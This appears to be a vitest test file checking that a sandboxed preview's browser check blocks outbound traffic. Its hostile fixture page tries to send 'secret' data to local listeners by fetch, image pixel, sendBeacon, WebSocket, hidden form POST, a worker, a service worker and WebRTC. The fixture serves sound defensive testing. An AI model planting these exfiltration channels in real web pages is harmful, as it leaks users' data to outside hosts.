import { createSocket } from 'node:dgram';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createNetServer } from 'node:net';
import type { AddressInfo, Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserCheck } from './browser-check.js';
import { templateProjects } from './template-projects.test-support.js';

// Real Chromium, the real preview server of a local sandbox, and real listeners on this machine
// that a hostile page tries to reach. Each listener counts every connection (or datagram) it gets.
const projects = templateProjects();
const received = { http: [] as string[], raw: 0, udp: 0 };
let httpPort = 0;
let rawPort = 0;
let udpPort = 0;
const servers: Array<{ close(): unknown }> = [];

beforeAll(async () => {
  const listen = async (server: Server) => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    servers.push(server);
    return (server.address() as AddressInfo).port;
  };
  const http = createHttpServer((request, response) => {
    received.http.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('stolen');
  });
  http.on('connection', () => received.http.push('connection'));
  httpPort = await listen(http);
  rawPort = await listen(
    createNetServer((socket) => {
      received.raw += 1;
      socket.destroy();
    }),
  );
  const udp = createSocket('udp4');
  udp.on('message', () => (received.udp += 1));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  servers.push(udp);
  udpPort = udp.address().port;
});
afterAll(async () => {
  for (const server of servers) server.close();
  await projects.cleanup();
});

/** A built app (no build step needed: the browser check serves dist/) whose script tries every way out. */
const hostileApp = () => {
  const victim = `http://127.0.0.1:${httpPort}`;
  const socket = `ws://127.0.0.1:${rawPort}`;
  return {
    'dist/index.html': '<!doctype html><html><head><title>egress</title></head><body><div id="root"></div><script src="/app.js"></script></body></html>',
    'dist/data.json': JSON.stringify({ message: 'same-origin data loaded' }),
    'dist/sw.js': `self.addEventListener('install', () => fetch('${victim}/from-service-worker'));`,
    'dist/app.js': `
const victim = ${JSON.stringify(victim)};
fetch(victim + '/steal?x=secret').catch(() => {});
const image = new Image();
image.src = victim + '/pixel.png';
document.body.append(image);
navigator.sendBeacon(victim + '/beacon', 'secret');
try { new WebSocket(${JSON.stringify(`${socket}/socket`)}).onerror = () => {}; } catch {}
fetch('http://example.invalid/x').catch(() => {});
const frame = document.createElement('iframe');
frame.name = 'post-target';
frame.hidden = true;
document.body.append(frame);
const form = document.createElement('form');
form.method = 'POST';
form.action = victim + '/form';
form.target = 'post-target';
form.innerHTML = '<input name="secret" value="x">';
document.body.append(form);
form.submit();
// A worker's WebSocket is not seen by routeWebSocket (an in-page shim): the proxy stops it.
new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`try { new WebSocket('${socket}/from-worker'); } catch {}`)}], { type: 'text/javascript' })));
navigator.serviceWorker?.register('/sw.js').catch(() => {});
const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
peer.createDataChannel('leak');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
fetch('/data.json').then((response) => response.json()).then((data) => { document.getElementById('root').textContent = data.message; });
`,
  };
};

const nothingReceived = () => expect(received).toEqual({ http: [], raw: 0, udp: 0 });

// The hostile page's markup (an image without alt, an unlabelled input) is not what these tests are
// about: the accessibility scan is off so each report holds only the egress findings.
describe('browserCheck egress: the page may load only its preview origin', () => {
  it('default: every way out is blocked before it leaves Chromium, the check fails naming each target, same-origin requests work', async () => {
    const { context } = await projects.open(hostileApp());
    const result = await browserCheck({ a11y: false }).run(context);
    nothingReceived();
    expect(result.status).toBe('failed');
    if (result.status !== 'failed') return;
    const only = '(only the preview origin may be loaded)';
    for (const line of [
      `blocked request to http://127.0.0.1:${httpPort}/steal ${only}`,
      `blocked request to http://127.0.0.1:${httpPort}/pixel.png ${only}`,
      `blocked request to http://127.0.0.1:${httpPort}/beacon ${only}`,
      `blocked request to http://127.0.0.1:${httpPort}/form ${only}`,
      `blocked WebSocket to ws://127.0.0.1:${rawPort}/socket ${only}`,
      `blocked connection to 127.0.0.1:${rawPort} ${only}`,
      `blocked request to http://example.invalid/x ${only}`,
    ]) {
      expect(result.report).toContain(line);
    }
    // Only the blocked requests: the same-origin script and data loaded and rendered.
    expect(result.issues.map((issue) => issue.message).filter((message) => !message.startsWith('blocked '))).toEqual([]);
    expect(result.report).toContain('bundle scripts, styles, fonts and images with the app');
    expect(result.report).not.toContain('x=secret');
  });

  it("behavior: blockedRequests 'warn' passes, still blocks, and posts the blocked targets as a warning", async () => {
    const { context, events } = await projects.open(hostileApp());
    const result = await browserCheck({ blockedRequests: 'warn', a11y: false }).run(context);
    nothingReceived();
    expect(result).toEqual({ status: 'passed', preview: { url: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+/), screenshotPath: expect.stringMatching(/\.png$/) } });
    const warning = events.find((event) => event.type === 'notice.posted' && event.level === 'warn');
    expect(warning).toMatchObject({ message: expect.stringMatching(/^Browser check: the page made \d+ requests outside the allowed origins, blocked \(blockedRequests: 'warn'\): /) });
    expect(warning).toMatchObject({ message: expect.stringContaining(`blocked request to http://127.0.0.1:${httpPort}/steal`) });
  });

  it('args: allowOrigins lets the page reach an origin (the listener then sees it), the rest stays blocked', async () => {
    const { context } = await projects.open(hostileApp());
    const result = await browserCheck({ a11y: false, allowOrigins: [`http://127.0.0.1:${httpPort}/any/path`] }).run(context);
    expect(received.http).toContain('GET /steal?x=secret');
    expect(received.raw).toBe(0);
    expect(received.udp).toBe(0);
    received.http.length = 0;
    expect(result.status === 'failed' && result.issues.map((issue) => issue.message)).toEqual(
      expect.arrayContaining([`blocked WebSocket to ws://127.0.0.1:${rawPort}/socket (only the preview origin and allowOrigins may be loaded)`, expect.stringContaining('http://example.invalid/x')]),
    );
    expect(result.status === 'failed' && result.report).not.toContain(`127.0.0.1:${httpPort}`);
  });

  it('error: an allowOrigins entry that is not a URL, or an unknown blockedRequests, is refused when the check is made', () => {
    expect(() => browserCheck({ allowOrigins: ['cdn.example.com'] })).toThrow(
      expect.objectContaining({ code: 'INVALID_INPUT', message: expect.stringContaining('"cdn.example.com" is not an http(s) or ws(s) URL') }),
    );
    expect(() => browserCheck({ blockedRequests: 'ignore' as 'warn' })).toThrow(
      expect.objectContaining({ code: 'INVALID_INPUT', message: "blockedRequests must be 'fail' or 'warn', not \"ignore\"." }),
    );
  });
});
